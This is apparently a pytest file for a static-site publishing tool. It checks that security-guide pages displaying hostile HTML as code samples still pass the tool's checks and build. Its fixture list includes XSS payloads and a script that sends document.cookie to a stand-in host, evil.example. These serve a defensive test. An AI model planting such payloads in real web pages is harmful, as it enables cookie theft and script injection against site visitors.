"""What ``webpub check`` accepts always builds and passes the output checks.

Property-style: the 77 sample pages plus pages that *show* hostile HTML as text —
every hostile snippet of the WP025 table and more, in inline code, fenced blocks
of several languages, indented code and tables, mixed by a seeded random choice —
must pass ``check`` with no error, and the real preview build (MkDocs, then
WP300-WP311 on what it wrote) must succeed. A page security guidance writes about
attacks must never block publication.
"""

from __future__ import annotations

import json
import random

from conftest import run_cli
from pagekit import page_text, write
from test_check_html_safety import HOSTILE

EXTRA = [
    "<a href='javascript:alert(1)'>x</a>",
    "<img src=x onerror='alert(1)'>",
    '<div id="__config">{"base": "https://evil.example"}</div>',
    '<span class="md-visually-hidden">x</span>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<iframe src=//evil.example></iframe>",
    '<img src="http://evil.example/x.png">',
    "<a href=\"#nowhere\">x</a> <a href='missing/page/'>y</a>",
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
]
LANGUAGES = ["html", "js", "css", "text", "python", "", "xml", "markdown"]


def _shown(snippet: str, rng: random.Random) -> str:
    one_line = snippet.replace("\n", " ")
    ticks = "``" if "`" in one_line else "`"
    pad = " " if one_line.startswith("`") or one_line.endswith("`") else ""
    forms = [
        f"ตัวอย่างที่ห้ามใช้ {ticks}{pad}{one_line}{pad}{ticks} ในหน้าเว็บ",
        f"```{rng.choice(LANGUAGES)}\n{snippet}\n```",
        "ตัวอย่าง:\n\n" + "\n".join("    " + line for line in snippet.split("\n")),
        f"| โค้ด | ความหมาย |\n|--|--|\n| {ticks}{pad}{one_line.replace('|', '&#124;')}{pad}{ticks} | อันตราย |",
        f"!!! warning \"ตัวอย่างอันตราย\"\n    ```{rng.choice(LANGUAGES)}\n"
        + "\n".join("    " + line for line in snippet.split("\n")) + "\n    ```",
    ]
    return rng.choice(forms)


def test_pages_showing_hostile_html_pass_check_and_build(sample_repo, capsys):
    rng = random.Random(11)
    snippets = HOSTILE + EXTRA
    pages = []
    for number in range(6):
        chosen = rng.sample(snippets, k=min(len(snippets), 25))
        body = "## ตัวอย่างโค้ดอันตราย\n\n" + "\n\n".join(_shown(s, rng) for s in chosen) + "\n"
        rel = f"content/about/security-guide-{number}.md"
        write(sample_repo, rel, page_text(body))
        pages.append(rel)
    code, out, err = run_cli(capsys, "check", "--format", "json", "--no-cache")
    errors = [f for f in json.loads(out)["findings"] if f["severity"] == "error"]
    assert code == 0 and errors == [], errors
    code, out, err = run_cli(capsys, "build", "--mode", "preview", "--site-dir", "built")
    assert code == 0, out + err
    for rel in pages:
        name = rel.rsplit("/", 1)[1][:-3]
        assert (sample_repo / "built" / "about" / name / "index.html").is_file()
